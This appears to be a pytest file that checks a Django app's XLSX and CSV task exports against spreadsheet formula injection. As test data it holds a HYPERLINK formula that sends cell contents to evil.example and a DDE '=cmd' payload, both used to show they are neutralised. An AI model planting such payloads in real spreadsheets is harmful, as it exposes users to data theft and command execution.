"""Text that begins like a formula leaves the tracker as text (issue 13, item 2): a
title, pillar, bureau or owner name starting with = + - @, a tab or a carriage return
is typed as a string in the XLSX and prefixed with an apostrophe in the CSV. The files
are read back with openpyxl and csv, as a spreadsheet would read them."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from plans import spreadsheets
from plans.dates import SEOUL
from plans.spreadsheets import Column, Table

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.fixture
def hostile_tasks(make_task, city):
    city.finance.name_ko = "=cmd|' /C calc'!A0"
    city.finance.save(update_fields=["name_ko"])
    city.finance_staff.last_name, city.finance_staff.first_name = "@SUM(1+1)", ""
    city.finance_staff.save(update_fields=["last_name", "first_name"])
    return [
        make_task(
            code=f"9-{index:02}",
            title_ko=title,
            pillar_ko="-바운스",
            bureau=city.finance,
            owner=city.finance_staff,
        )
        for index, title in enumerate(HOSTILE)
    ]


def xlsx_sheet(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.getvalue())).active


def test_it_types_formula_like_xlsx_cells_as_text(office_client, hostile_tasks):
    sheet = xlsx_sheet(office_client.get(reverse("review:task_export_xlsx"), {"flag": "all"}))
    header = [cell.value for cell in sheet[1]]
    names = ("핵심과제", "추진 전략", "실국", "담당자")
    title, pillar, bureau, owner = (header.index(name) for name in names)
    ours = [row for row in sheet.iter_rows(min_row=2) if str(row[0].value).startswith("9-")]
    # A carriage return is stored as Excel stores it, "_x000D_", which Excel reads back
    # as typed and openpyxl leaves to its caller to read.
    assert sorted(unescape(row[title].value) for row in ours) == sorted(HOSTILE)
    for row in ours:
        for index in (title, pillar, bureau, owner):
            cell = row[index]
            # Kept exactly as typed, but a string, never a formula.
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.quotePrefix
        assert row[pillar].value == "-바운스"
        assert row[bureau].value == "=cmd|' /C calc'!A0"
        assert row[owner].value == "@SUM(1+1)"
    # No formula anywhere in the file.
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_it_prefixes_formula_like_csv_cells_with_an_apostrophe(office_client, hostile_tasks):
    response = office_client.get(reverse("review:task_export_csv"), {"flag": "all"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
    owner = rows[0].index("담당자")
    ours = [row for row in rows if row[0].startswith("9-")]
    assert sorted(row[4] for row in ours) == sorted("'" + title for title in HOSTILE)
    for row in ours:
        assert row[2] == "'=cmd|' /C calc'!A0"
        assert row[3] == "'-바운스"
        assert row[owner] == "'@SUM(1+1)"
    # Numbers and dates are left as they are: only text is neutralised.
    assert all(row[6].isdigit() for row in ours)
    assert all(row[9][:1].isdigit() for row in ours)


def test_ordinary_text_and_numbers_are_left_alone():
    table = Table("표", [Column("a", 5), Column("b", 5)], [["보통 제목", -5], ["a=b", 3]])
    workbook = io.BytesIO()
    spreadsheets.write_xlsx(table, workbook)
    sheet = load_workbook(workbook).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["보통 제목", -5],
        ["a=b", 3],
    ]
    assert sheet["B2"].data_type == "n" and not sheet["A2"].quotePrefix
    text = b"".join(spreadsheets.csv_chunks(table)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["보통 제목", "-5"], ["a=b", "3"]]


def test_a_csv_row_written_whole_is_the_row_written_cell_by_cell():
    """The CSV writes most rows as they come and rewrites only those that might hold a
    formula or a time: whatever the values, the file is the one that neutralising every
    cell gives."""
    moment = datetime(2026, 3, 1, 9, 5, 59)
    rows = [
        ["보통 제목", 3, date(2026, 1, 2), None, moment],
        ["-3", -3, "a,-b", 'say "=1"', moment],
        ["x", 1, "회의 10:30:00", "a\r\nb", moment],
        ["\t1", 2.5, "@", "", None],
        ["=1", Decimal("1.50"), "+", "q", moment.replace(tzinfo=SEOUL)],
        ["x", moment, '"-"', "\r=1", moment],  # a time where none was announced
        ["", 0, "a=b", "메모, 끝", moment],
    ]
    # Written and checked many rows at a time, over several chunks: a lone line that
    # begins like a formula, or holds a carriage return, among plain ones.
    plain = [["보통 제목", 3, date(2026, 1, 2), "메모", moment]]
    chunk = spreadsheets.CSV_CHUNK_ROWS
    rows += plain * (2 * chunk) + [["-", 1, "x", "y", moment]] + plain * chunk
    rows += [["x", 1, "\rb", "y", moment]] + plain * chunk + rows[:7]
    columns = [Column(name, 5) for name in "abcd"] + [Column("e", 5, time=True)]
    written = b"".join(spreadsheets.csv_chunks(Table("t", columns, rows))).decode("utf-8-sig")
    expected = io.StringIO()
    writer = csv.writer(expected)
    writer.writerow("abcde")
    writer.writerows([[spreadsheets.csv_value(value) for value in row] for row in rows])
    assert written == expected.getvalue()
    lines = written.splitlines()
    assert lines[1] == "보통 제목,3,2026-01-02,,2026-03-01 09:05"
    # Only text that begins like a formula is neutralised; the number stays a number.
    assert lines[2] == "'-3,-3," + '"a,-b","say ""=1""",2026-03-01 09:05'


def test_control_characters_excel_cannot_store_do_not_fail_the_xlsx():
    table = Table("t", [Column("a", 5)], [["제목\x01\x0b끝"], ["\x02=1+1"]])
    workbook = io.BytesIO()
    assert spreadsheets.write_xlsx(table, workbook) == 2
    sheet = load_workbook(workbook).active
    assert sheet["A2"].value == "제목끝"
    assert sheet["A3"].value == "=1+1" and sheet["A3"].data_type == "s"


def test_the_exports_are_streamed_in_a_fixed_number_of_queries(office_client, make_task, city):
    """Sent in chunks as they are written (memory stays flat), and the same queries for
    4 tasks as for 40: the rows come from one query, read in chunks."""

    def queries(name):
        with CaptureQueriesContext(connection) as captured:
            response = office_client.get(reverse(name), {"flag": "all"})
            assert response.streaming
            response.getvalue()
        return len(captured.captured_queries)

    few = {name: queries(name) for name in ("review:task_export_xlsx", "review:task_export_csv")}
    for index in range(36):
        make_task(code=f"8-{index:02}", owner=city.finance_staff, bureau=city.finance)
    many = {name: queries(name) for name in few}
    assert many == few


def test_every_kind_of_value_is_written_as_excel_reads_it():
    """Numbers stay numbers, a moment is shown on Seoul's clock, text that looks like
    Excel's own escapes reads back as typed, and a name Excel refuses for a sheet is
    mended rather than failing the export."""
    moment = datetime(2026, 3, 1, 0, 30, tzinfo=SEOUL).astimezone(UTC)
    rows = [[Decimal("1.50"), 2.5, True, moment, date(2026, 1, 2), "", None, "_x0041_ 끝"]]
    table = Table("'보고회: 2026/03 [초안]?'", [Column(str(i), 5) for i in range(8)], rows)
    workbook = io.BytesIO()
    assert spreadsheets.write_xlsx(table, workbook) == 1
    book = load_workbook(workbook)
    sheet = book.active
    assert book.sheetnames == ["보고회 2026 03 초안"]
    values = [cell.value for cell in sheet[2]]
    assert values[:5] == [1.5, 2.5, True, datetime(2026, 3, 1, 0, 30), datetime(2026, 1, 2)]
    assert [sheet["D2"].number_format, sheet["E2"].number_format] == [
        "yyyy-mm-dd hh:mm",
        "yyyy-mm-dd",
    ]
    # Empty text and nothing leave the cell empty.
    assert values[5:7] == [None, None]
    assert unescape(values[7]) == "_x0041_ 끝"
